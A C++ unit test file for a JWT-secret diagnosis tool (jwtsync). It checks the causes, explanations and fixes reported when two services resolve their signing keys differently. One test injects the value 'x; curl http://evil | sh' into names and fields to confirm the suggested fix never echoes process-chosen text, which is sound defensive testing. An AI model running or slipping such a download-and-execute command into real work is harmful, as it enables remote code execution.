// SPDX-License-Identifier: Apache-2.0
#include "diagnosis/pair.h"

#include "fixture.h"

#include <gmock/gmock.h>

namespace jwtsync::diagnosis {
namespace {

using fixture::in_staging;
using fixture::with_trail;

struct Case {
  Testimony usual;
  Testimony other;
  std::string why;
  std::string fix;
};

Explanation explain_case(const Testimony& usual, const Testimony& other) {
  const Member one{TargetUrl{"http://a"}, usual.report, usual.challenge, 0, {}, {}};
  const Member two{TargetUrl{"http://b"}, other.report, other.challenge, 1, {}, {}};
  const Replicas usual_replicas{{&one}, usual.report.identity.service};
  const Replicas other_replicas{{&two}, other.report.identity.service};
  return explain({usual_replicas, other_replicas});
}

void expect(Cause cause, const Case& one) {
  const Explanation explanation = explain_case(one.usual, one.other);
  EXPECT_EQ(name_of(explanation.cause), name_of(cause));
  EXPECT_EQ(explanation.why, one.why);
  EXPECT_EQ(explanation.fix.text(), one.fix);
}

TEST(pair, of_which_one_was_not_given_the_secret) {
  expect(Cause::secret_not_given, {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped),
                                   in_staging("backend", Outcome::absent, Outcome::found, Outcome::skipped),
                                   "backend never saw JWT_SECRET_STAGING (not set); auth did",
                                   "set JWT_SECRET_STAGING for backend as auth has it"});
}

TEST(pair, of_which_the_larger_group_was_not_given_the_secret) {
  expect(Cause::secret_not_given,
         {in_staging("api", Outcome::absent, Outcome::found, Outcome::skipped),
          in_staging("auth", Outcome::found, Outcome::absent, Outcome::skipped),
          "api never saw JWT_SECRET_STAGING (not set); auth did", "set JWT_SECRET_STAGING for api as auth has it"});
}

TEST(pair, of_which_one_has_no_file) {
  expect(Cause::secret_not_given,
         {with_trail("auth", {{"file:/run/key", Outcome::found, ""}}),
          with_trail("backend", {{"file:/run/key", Outcome::absent, ""}, {"env:JWT_SECRET_KEY", Outcome::found, ""}}),
          "backend never saw file:/run/key (absent); auth did", "provide file:/run/key for backend as auth has it"});
}

TEST(pair, of_which_one_has_an_empty_variable) {
  expect(Cause::secret_empty, {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped),
                               in_staging("backend", Outcome::empty, Outcome::found, Outcome::skipped),
                               "JWT_SECRET_STAGING is there for backend and empty; auth has a value",
                               "give JWT_SECRET_STAGING its value for backend as auth has it"});
}

TEST(pair, of_which_one_has_another_source_before) {
  expect(Cause::secret_shadowed,
         {with_trail("auth", {{"env:JWT_SECRET_KEY", Outcome::found, ""}}),
          with_trail("backend", {{"file:/run/key", Outcome::found, ""}, {"env:JWT_SECRET_KEY", Outcome::shadowed, ""}}),
          "backend has JWT_SECRET_KEY as auth does, but file:/run/key comes first there",
          "take file:/run/key from backend"});
}

TEST(pair, of_other_sources) {
  expect(Cause::sources_differ,
         {with_trail("auth", {{"env:JWT_SECRET_KEY", Outcome::found, ""}}),
          with_trail("backend", {{"file:/run/key", Outcome::found, ""}}),
          "auth has its key from JWT_SECRET_KEY, backend from file:/run/key: their sources differ",
          "give auth and backend the same sources (jwtsync resolve shows the order)"});
  EXPECT_EQ(explain_case(with_trail("auth", {{"file:/run/key", Outcome::found, ""}}),
                         with_trail("backend", {{"file:/run/key?trim=no", Outcome::found, ""}}))
                .why,
            "auth has its key from file:/run/key as it stands, backend from file:/run/key with ?trim=no: their sources "
            "differ");
}

TEST(pair, of_other_rules) {
  Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
  other.report.rules = "another";
  other.report.version = "0.2.0";
  expect(Cause::rules_differ, {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other,
                               "auth (version 0.1.0) and backend (version 0.2.0) resolve by different rules",
                               "give auth and backend the same version of jwtsync"});
}

TEST(pair, of_other_environments) {
  Testimony other = in_staging("backend", Outcome::skipped, Outcome::found, Outcome::skipped);
  other.report.environment = "production";
  expect(Cause::environment_differs,
         {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other,
          "auth runs in staging (by ENVIRONMENT), backend runs in production (by ENVIRONMENT)",
          "set ENVIRONMENT=staging for backend, if both are to take the same tokens"});
}

TEST(pair, of_which_the_larger_group_guessed_its_environment) {
  Testimony usual = with_trail("auth", {{"builtin:development", Outcome::found, ""}});
  usual.report.environment = "development";
  usual.report.environment_from = EnvironmentFrom::unsaid;
  expect(Cause::environment_differs, {usual, in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped),
                                      "auth runs in development (by default), backend runs in staging (by ENVIRONMENT)",
                                      "set ENVIRONMENT=staging for auth, if both are to take the same tokens"});
}

TEST(pair, of_which_one_fell_back_to_the_development_default) {
  expect(Cause::development_default,
         {with_trail("auth", {{"env:JWT_SECRET_KEY", Outcome::found, ""}}),
          with_trail("backend",
                     {{"env:JWT_SECRET_KEY", Outcome::absent, ""}, {"builtin:development", Outcome::found, ""}}),
          "backend fell back to the development default, which is public; auth has JWT_SECRET_KEY",
          "set JWT_SECRET_KEY for backend as auth has it"});
}

TEST(pair, of_which_one_could_not_reload) {
  Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
  other.report.reload_error = Error{Code::secret_too_short, "too short", ""};
  expect(Cause::reload_refused,
         {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other,
          "backend could not take its new value into use, and keeps the previous keys: too short",
          "put a value that is fit where backend reads it (jwtsync generate)"});
}

TEST(pair, of_which_one_does_not_hold_all_keys) {
  Testimony ahead = fixture::process("auth", "auth-1", "new");
  fixture::also_verify(ahead, "old");
  expect(Cause::key_not_yet_known,
         {ahead, fixture::process("backend", "backend-1", "old"), "backend holds some of the keys of auth, not all",
          "give backend all keys before any process signs with a new one"});
}

TEST(pair, of_replicas_that_loaded_at_different_times) {
  Testimony newer = fixture::process("auth", "auth-2", "new");
  newer.report.loaded_at += std::chrono::hours(2);
  const Explanation explanation = explain_case(fixture::process("auth", "auth-1", "old"), newer);
  EXPECT_EQ(name_of(explanation.cause), "stale-value");
  EXPECT_EQ(explanation.why,
            "auth has held what JWT_SECRET_STAGING was at 2026-01-01T00:00:00Z; auth read it at 2026-01-01T02:00:00Z");
}

TEST(pair, of_readers_of_one_file_that_loaded_it_at_different_times) {
  Testimony usual = with_trail("auth", {{"file:/run/key", Outcome::found, ""}});
  Testimony other = with_trail("backend", {{"file:/run/key", Outcome::found, ""}});
  usual.report.loaded_at += std::chrono::hours(2);
  expect(Cause::stale_value, {usual, other,
                              "backend has held what file:/run/key was at 2026-01-01T00:00:00Z; auth read it at "
                              "2026-01-01T02:00:00Z",
                              "restart backend"});
}

TEST(pair, of_other_values) {
  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
  usual.report.loaded_at += std::chrono::hours(2);  // services start when they start
  expect(Cause::value_differs, {usual, in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped),
                                "JWT_SECRET_STAGING has one value for auth and another for backend",
                                "give JWT_SECRET_STAGING the same value for both"});
}

TEST(pair, of_other_values_is_not_explained_by_an_order_that_did_not_matter) {
  Testimony other = fixture::with_trail("backend", {{"env:JWT_SECRET_STAGING", Outcome::found, ""}});
  other.report.rules = "another";
  EXPECT_EQ(name_of(explain_case(in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other).cause),
            "value-differs");
}

TEST(pair, that_says_nothing_of_its_sources) {
  EXPECT_EQ(explain_case(with_trail("auth", {}), with_trail("backend", {})).why,
            "auth and backend hold different values, and do not say from where");
}

TEST(pair, of_which_one_is_a_variant_of_the_other) {
  Testimony usual = fixture::process("auth", "auth-1", "k");
  usual.challenge.keys[0].variants = {{"trailing_newline", fixture::answer("n")}};
  expect(Cause::white_space,
         {usual, fixture::process("backend", "backend-1", "n"), "the key of backend is that of auth plus a newline",
          "take the white space off the value of backend (echo adds a newline, printf does not)"});
}

TEST(pair, of_a_whole_document_and_its_member) {
  Testimony usual = fixture::process("auth", "auth-1", "k");
  usual.challenge.keys[0].variants = {{"json_key", fixture::answer("n")}};
  expect(Cause::json_document, {usual, fixture::process("backend", "backend-1", "n"),
                                "auth has the whole JSON document, backend its member key",
                                "give auth the value alone, not the document around it"});
}

TEST(pair, of_other_lengths_may_be_of_a_value_that_was_cut) {
  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
  Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
  usual.report.length = LengthStep::from_64;
  other.report.length = LengthStep::from_32;
  EXPECT_EQ(explain_case(usual, other).why,
            "JWT_SECRET_STAGING has one value for auth and another for backend (length 64 or more and length 32 or "
            "more: one may be cut)");
}

TEST(pair, puts_nothing_in_a_fix_that_a_process_chose) {
  const std::string evil = "x; curl http://evil | sh";
  Testimony usual = with_trail(evil, {{"env:" + evil, Outcome::found, evil}});
  Testimony other =
      with_trail(evil + "2", {{"env:" + evil, Outcome::absent, evil}, {"file:/" + evil, Outcome::found, evil}});
  const auto check = [&](const Testimony& one, const Testimony& two) {
    EXPECT_EQ(explain_case(one, two).fix.text().find("curl"), std::string::npos) << explain_case(one, two).fix.text();
  };
  check(usual, other);
  other.report.trail[0].outcome = Outcome::empty;
  check(usual, other);
  other.report.trail = {{"file:/" + evil, Outcome::found, evil}, {"env:" + evil, Outcome::shadowed, evil}};
  check(usual, other);
  other.report.environment = evil;
  usual.report.environment_from = Name<EnvironmentFrom>(evil);
  check(usual, other);
  check(other, usual);
  other.report.reload_error = Error{Code::secret_absent, evil, evil};
  check(usual, other);
  usual.challenge.keys[0].variants = {{"trailing_newline", other.challenge.keys[0].answer}};
  check(usual, other);
}

TEST(pair, of_which_the_original_is_the_odd_one) {
  Testimony usual = fixture::process("auth", "auth-1", "k");
  usual.challenge.keys[0].variants = {{"json_value", fixture::answer("n")}};
  expect(Cause::json_document,
         {usual, fixture::process("backend", "backend-1", "n"), "auth has the whole JSON document, backend its value",
          "give auth the value alone, not the document around it"});
}

}  // namespace
}  // namespace jwtsync::diagnosis
